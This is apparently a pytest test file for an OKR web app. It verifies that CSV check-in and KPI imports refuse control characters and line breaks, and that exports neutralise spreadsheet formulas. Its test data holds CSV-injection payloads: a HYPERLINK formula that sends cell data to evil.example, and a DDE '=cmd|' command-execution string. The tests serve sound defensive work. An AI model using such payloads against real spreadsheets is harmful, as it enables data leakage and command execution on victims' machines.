"""Cells a form would refuse are refused in a sheet too: NUL and control characters (PostgreSQL
cannot store NUL; nothing would show them), line breaks in a one-line name. A formula typed in a
comment is kept as text and comes out of the exports neutralised."""
import csv
import io

import pytest
from sqlalchemy import func, select

from okrapp.core.extensions import db
from okrapp.okrs.models import CheckIn
from okrapp.incentives.models import Incentive

from tests.factories import make_key_result, make_unit, make_user


def upload(client, url, data, name):
    return client.post(url, data={"sheet": (io.BytesIO(data), name)}, content_type="multipart/form-data")


def count(model):
    db.session.expire_all()
    return db.session.scalar(select(func.count()).select_from(model))


@pytest.mark.parametrize("comment", ["a\x00b", "bell\x07", "esc\x1b[2J"])
def test_a_check_in_sheet_with_control_characters_in_a_comment_is_refused_row_by_row(login, comment):
    executive = make_user("executive")
    kr = make_key_result(unit=make_unit(), metric_key="csat")
    db.session.commit()
    sheet = f"key result;value;date;confidence;comment\r\n{kr.id};75;;;fine\r\n{kr.id};76;;;{comment}\r\n"
    response = upload(login(executive), "/check-ins/import", sheet.encode("utf-8"), "check-ins.csv")
    page = response.data.decode()
    assert response.status_code == 422
    assert "comment contains control characters" in page.split('data-label="Line">3</td>')[1].split("</tr>")[0]
    assert count(CheckIn) == 0


@pytest.mark.parametrize("name, problem", [("Orders\x00per rep", "control characters"),
                                           ('"Orders\nper rep"', "on one line")])
def test_a_kpi_sheet_with_control_characters_or_line_breaks_in_a_name_is_refused(login, name, problem):
    make_unit("Equipment Sales")
    executive = make_user("executive")
    db.session.commit()
    sheet = f"unit;KPI name;metric key;direction;weight;target\nEquipment Sales;{name};revenue;increase;0,5;\n"
    response = upload(login(executive), "/incentives/import", sheet.encode("utf-8"), "kpis.csv")
    assert response.status_code == 422 and problem in response.data.decode()
    assert count(Incentive) == 0


def test_a_formula_imported_as_a_comment_is_exported_as_text(login):
    executive = make_user("executive")
    kr = make_key_result(unit=make_unit(), metric_key="csat")
    db.session.commit()
    client = login(executive)
    sheet = f'key result;value;date;confidence;comment\r\n{kr.id};75;;;"=HYPERLINK(""http://evil.example/""&A1)"\r\n'
    preview = upload(client, "/check-ins/import", sheet.encode("utf-8"), "check-ins.csv").data.decode()
    payload = preview.split('name="payload" type="hidden" value="')[1].split('"')[0]
    assert client.post("/check-ins/import/confirm", data={"payload": payload}).status_code == 302
    exported = client.get(f"/exports/check-ins.csv?cycle={kr.objective.cycle_id}").data.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(exported)))
    assert row["Comment"] == "'=HYPERLINK(\"http://evil.example/\"&A1)"


@pytest.mark.parametrize("comment", ["Done;=cmd|' /C calc'!A0", "Done; @SUM(A1)", "Line one\n=1+1", "a\tb;-2+3"])
def test_a_formula_after_a_semicolon_or_line_break_is_neutralised_for_spreadsheets_that_split_there(login, comment):
    """Excel in a Finnish locale reads a comma-separated file split on semicolons, and ends a row at a
    line break: every piece of a text cell must still not start a formula."""
    from okrapp.okrs import operations as okrs
    executive = make_user("executive")
    kr = make_key_result(unit=make_unit(), metric_key="csat")
    db.session.commit()
    okrs.record_check_in(kr, 75, 7, comment, executive)
    db.session.commit()
    exported = login(executive).get(f"/exports/check-ins.csv?cycle={kr.objective.cycle_id}").data.decode("utf-8-sig")
    pieces = [piece.lstrip(' "') for line in exported.replace("\r\n", "\n").split("\n")
              for piece in line.replace("\t", ";").split(";")]
    assert not [p for p in pieces if p[:1] in ("=", "+", "-", "@")], exported
    [row] = list(csv.DictReader(io.StringIO(exported)))
    assert row["Comment"].replace("'", "") == comment.replace("'", "")  # only apostrophes added
